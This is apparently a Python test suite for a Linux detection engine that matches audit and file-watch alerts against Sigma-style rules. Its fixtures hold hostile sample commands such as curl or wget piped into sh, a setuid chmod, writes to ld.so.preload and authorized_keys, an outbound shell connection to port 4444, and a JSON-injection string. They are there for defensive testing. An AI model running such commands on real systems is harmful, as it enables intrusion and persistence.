"""From an alert to the rules that match it; and that the short way finds what asking every rule finds."""

from __future__ import annotations

import json
import os
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mig_sigma import catalogue
from mig_sigma.alert import Alert
from mig_sigma.conditions import Facts, compiled
from mig_sigma.events import events_of
from mig_sigma.events import program as program_fields
from mig_sigma.judging import Judge
from mig_sigma.lineage import Lineage
from mig_sigma.loading import builtin_rules
from mig_sigma.matcher import RuleSet
from mig_sigma.rule import Group, Rule
from mig_sigma.rule import Test as Single

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence

    from mig_sigma.rule import Node

KINDS = frozenset([*catalogue.FIELDS, catalogue.AUDITD, catalogue.ANY])


def matched(rules: Sequence[Rule], raw: bytes, module: str = "audit", lineage: Lineage | None = None) -> set[str]:
    found = Judge(lineage or Lineage(""), "web1").judge(RuleSet(rules), module, raw)
    return {one.rule.id for one in found}


def asked_one_by_one(rules: Sequence[Rule], raw: bytes, module: str = "audit") -> set[str]:
    """Every rule about every event, with nothing ruled out before."""
    alert = Alert(raw)
    whole = alert.whole()
    events = [(one.kind, one.facts) for one in events_of(module, alert, KINDS, None, "web1")]
    call = whole.get("syscall") or {}
    if module == "audit" and call.get("name") in ("execve", "execveat") and whole.get("result") is True:
        user = (whole.get("user") or {}).get("euid_name")
        fields = program_fields(whole["process"], None, user, whole.get("time"), "web1")
        events.append((catalogue.PROCESS, Facts(fields)))
    return {
        rule.id for rule in rules for kind, facts in events if rule.kind == kind and compiled(rule.condition)(facts)
    }


def test_the_modules_own_rules_match_what_they_are_for(program: Callable[..., bytes]) -> None:
    shell = program("bash", "-c", "curl -s http://192.0.2.1/x | sh", exe="/usr/bin/bash")
    memory = program("x", exe="/memfd:payload (deleted)")
    mode = program("chmod", "4755", "/tmp/x", exe="/usr/bin/chmod")
    rules = builtin_rules()
    titles = {one.id: one.title for one in rules}

    assert {titles[one] for one in matched(rules, shell)} == {"Download Piped Into A Shell"}
    assert {titles[one] for one in matched(rules, memory)} == {"Program Started From Memory"}
    assert {titles[one] for one in matched(rules, mode)} == {"Set-User-ID Bit Given To A Program"}
    assert matched(rules, program("true")) == set()


def test_the_parent_is_known_from_its_own_start(program: Callable[..., bytes]) -> None:
    lineage = Lineage("")
    rules = builtin_rules()
    server = program("nginx", "-g", "daemon off;", exe="/usr/sbin/nginx", pid=100, ppid=1)
    shell = program("sh", "-c", "id", exe="/bin/sh", pid=101, ppid=100)

    assert matched(rules, server, lineage=lineage) == set()
    assert len(matched(rules, shell, lineage=lineage)) == 1
    assert [one["exe"] for one in lineage.chain(101)] == ["/bin/sh", "/usr/sbin/nginx"]  # type: ignore[index,call-overload]  # JSON


def test_a_parent_that_only_runs_is_looked_up() -> None:
    found = Lineage().of(os.getpid())

    assert found is not None
    assert found.program == os.path.realpath(f"/proc/{os.getpid()}/exe")
    assert found.ppid == os.getppid()
    assert Lineage().of(0) is None


def change(path: str, kind: str = "new", **more: Any) -> bytes:
    by = {"pid": 7, "executable": "/usr/bin/vi", "user": "root"}
    event = {"schema": 1, "type": "file_change", "time": "2026-01-01T00:00:00Z", "change": kind, "path": path, "by": by}
    return json.dumps(event | more, separators=(",", ":")).encode()


def test_changes_that_fswatch_tells_are_events_of_files() -> None:
    titles = {one.id: one.title for one in builtin_rules()}

    found = matched(builtin_rules(), change("/etc/ld.so.preload"), "fswatch")
    folded = json.dumps(
        {"schema": 1, "type": "package", "changes": [{"change": "new", "path": "/etc/cron.d/x"}]}
    ).encode()

    assert {titles[one] for one in found} == {"List Of Preloaded Libraries Written"}
    assert {titles[one] for one in matched(builtin_rules(), folded, "fswatch")} == {
        "Something That Starts By Itself Was Installed"
    }
    assert matched(builtin_rules(), change("/etc/ld.so.preload", "removed"), "fswatch") == set()


def test_a_file_that_was_there_for_a_moment_only_was_made_and_removed(rule: Callable[..., Rule]) -> None:
    text = "    a:\n        TargetFilename|startswith: /etc/cron.d/\n    condition: a\n"
    made = rule(text, source="category: file_event")
    removed = rule(text, source="category: file_delete")
    changed = rule(text, source="category: file_change")

    found = [matched([one], change("/etc/cron.d/x", "passing"), "fswatch") for one in (made, removed, changed)]

    assert [bool(one) for one in found] == [True, True, False]


def opened(flags: str, name: str = "authorized_keys", kind: str = "NORMAL") -> bytes:
    event = {
        "schema": 1, "type": "SYSCALL", "time": "2026-01-01T00:00:00Z", "complete": True, "record_types": ["SYSCALL"],
        "result": True, "syscall": {"name": "openat", "number": 257, "args": ["0xffffff9c", "0x1", flags, "0x1b6"]},
        "process": {"pid": 1, "exe": "/bin/sh", "cwd": "/home/ada/.ssh"}, "user": {"euid_name": "root"},
        "paths": [{"item": 1, "name": name, "type": kind}],
    }  # fmt: skip
    return json.dumps(event, separators=(",", ":")).encode()


@pytest.mark.parametrize(
    ("raw", "written"),
    [
        (opened("0x241"), True),  # O_WRONLY | O_CREAT | O_TRUNC
        (opened("0x0"), False),
        (opened("0x1"), False),  # written to, but neither made nor emptied
        (opened("0x241", kind="CREATE"), True),
        (opened("0x241", name="../.ssh/authorized_keys"), True),
        (opened("0x241", name="other"), False),
    ],
)
def test_a_file_that_is_made_or_emptied_is_an_event_with_its_whole_path(raw: bytes, written: bool) -> None:
    titles = {one.id: one.title for one in builtin_rules()}

    assert {titles[one] for one in matched(builtin_rules(), raw)} == ({"Authorized Keys Written"} if written else set())


def connection(address: str, family: str = "inet", **more: Any) -> bytes:
    event = {
        "schema": 1, "type": "SYSCALL", "time": "2026-01-01T00:00:00Z", "complete": True, "record_types": ["SYSCALL"],
        "result": True, "syscall": {"name": "connect", "number": 42, "args": ["0x3"]},
        "process": {"pid": 1, "exe": "/usr/bin/bash"}, "user": {"euid_name": "root"},
        "address": {"family": family, "address": address, "port": 4444},
    }  # fmt: skip
    return json.dumps(event | more, separators=(",", ":")).encode()


def test_a_shell_that_connects_outward_is_told_and_one_that_stays_is_not() -> None:
    rules = builtin_rules()
    under_way: dict[str, Any] = {"result": False, "syscall": {"name": "connect", "error": "EINPROGRESS"}}

    assert len(matched(rules, connection("192.0.2.1"))) == 1
    assert len(matched(rules, connection("::ffff:192.0.2.1", "inet6"))) == 1
    assert len(matched(rules, connection("192.0.2.1", **under_way))) == 1
    assert matched(rules, connection("127.0.0.1")) == set()
    assert matched(rules, connection("::ffff:127.0.0.1", "inet6")) == set()
    assert matched(rules, connection("192.0.2.1", result=False)) == set()


def test_recorded_alerts_are_judged_alike_by_the_short_way_and_the_long_one(
    alerts: list[bytes], rule: Callable[..., Rule]
) -> None:
    rules = [
        Rule(f"{number}", "t", "low", kind, made.condition)
        for number, (source, kind, detection) in enumerate(
            [
                ("service: auditd", "auditd", "type: EXECVE\n        a0: 'true'"),
                ("service: auditd", "auditd", "type: PATH\n        nametype: DELETE"),
                ("service: auditd", "auditd", "type: SYSCALL\n        SYSCALL: openat\n        success: 'no'"),
                ("service: auditd", "auditd", "type: SYSCALL\n        euid: 0"),
                ("service: auditd", "auditd", "type: SYSCALL\n        syscall: 59\n        exit|gte: 0"),
                ("service: auditd", "auditd", "type: USER_LOGIN"),
                ("service: auditd", "auditd", "key: exec"),
                ("service: auditd", "auditd", "UID: root\n        comm|contains: py"),
                ("category: file_event", "file_event", "TargetFilename|endswith: b"),
                ("category: file_delete", "file_delete", "TargetFilename|contains: 'a b'"),
                ("category: file_rename", "file_rename", "SourceFilename|contains: '/'"),
                ("category: network_connection", "network_connection", "DestinationPort: 443"),
                ("category: network_connection", "network_connection", "DestinationIp|cidr: '2001:db8::/32'"),
                ("category: process_creation", "process_creation", "CommandLine|contains: 'say \"x\"'"),
                ("category: process_creation", "process_creation", "CommandLine|contains: 'grün'"),
            ]
        )
        for made in [rule(f"    a:\n        {detection}\n    condition: a\n", source)]
    ]

    found = [matched(rules, raw) for raw in alerts]

    assert found == [asked_one_by_one(rules, raw) for raw in alerts]
    assert set().union(*found) >= {str(number) for number in range(len(rules)) if number not in (9, 10)}


WORDS = st.sampled_from(
    ["true", "a b", "TRUE", "grün", 'say "x"', "line\nbreak", "/usr/bin/", "\\", "é", "\u212a", "\x7f", "0",
     "exec", "process", "x\u0130y", "a\x01b", "*", "?", "", "/.", "kelvin", "-c"]
) | st.text(max_size=6)  # fmt: skip
FIELDS = st.sampled_from(["Image", "CommandLine", "CurrentDirectory", "User", "ParentImage"])
RECORD_FIELDS = st.sampled_from(
    ["type", "a0", "a1", "exe", "comm", "key", "name", "SYSCALL", "syscall", "euid", "cwd", ""]
)
TESTS = st.sampled_from(["equals", "startswith", "endswith", "contains", "glob"])


def nodes(fields: st.SearchStrategy[str]) -> st.SearchStrategy[Node]:
    leaves: st.SearchStrategy[Node] = st.builds(
        lambda name, test, values, cased: Single(name, test, tuple(values), cased),
        fields, TESTS, st.lists(WORDS, min_size=1, max_size=3), st.booleans(),
    )  # fmt: skip
    return st.recursive(
        leaves,
        lambda inner: st.builds(lambda word, parts: Group(word, tuple(parts)), st.sampled_from(["all", "any"]),
                                st.lists(inner, min_size=1, max_size=3))
        | inner.map(lambda one: Group("not", (one,))),
        max_leaves=5,
    )  # fmt: skip


@settings(
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow], max_examples=200, deadline=None
)
@given(
    processes=st.lists(nodes(FIELDS), min_size=1, max_size=4),
    records=st.lists(nodes(RECORD_FIELDS), max_size=4),
    arguments=st.lists(WORDS, min_size=1, max_size=4),
    exe=WORDS,
)
def test_no_match_is_lost_on_the_short_way(
    processes: list[Node], records: list[Node], arguments: list[str], exe: str, program: Callable[..., bytes]
) -> None:
    rules = [Rule(f"p{n}", "t", "low", catalogue.PROCESS, one) for n, one in enumerate(processes)]
    rules += [Rule(f"r{n}", "t", "low", catalogue.AUDITD, one) for n, one in enumerate(records)]
    raw = program(*arguments, exe=exe, cwd=arguments[0])

    assert matched(rules, raw) == asked_one_by_one(rules, raw)


def test_an_alert_in_another_spelling_is_judged_alike(program: Callable[..., bytes]) -> None:
    raw = program("bash", "-c", "wget -q x | sh", "grün", exe="/bin/bash")
    spelled = json.dumps(dict(sorted(json.loads(raw).items()))).encode()

    assert len(matched(builtin_rules(), raw)) == 1
    assert matched(builtin_rules(), spelled) == matched(builtin_rules(), raw)
    assert matched(builtin_rules(), json.dumps(json.loads(raw)).encode().replace(b": ", b":").replace(b", ", b",")) == (
        matched(builtin_rules(), raw)
    )


@given(st.binary(max_size=200) | st.dictionaries(st.text(max_size=8), st.text(max_size=8) | st.none()).map(
    lambda value: json.dumps(value).encode()))  # fmt: skip
def test_any_alert_is_judged_or_refused(raw: bytes) -> None:
    judge, rules = Judge(Lineage(""), ""), RuleSet(builtin_rules())
    for module in ("audit", "fswatch"):
        try:
            judge.judge(rules, module, raw)
        except (AttributeError, KeyError, TypeError, ValueError):
            continue


def test_what_a_hostile_program_writes_is_not_taken_for_a_member(program: Callable[..., bytes]) -> None:
    raw = program('","process":{"pid":1,"exe":"/usr/sbin/nginx"},"user":{', exe="/bin/true")

    assert Alert(raw).get("process")["exe"] == "/bin/true"
    assert matched(builtin_rules(), raw) == set()
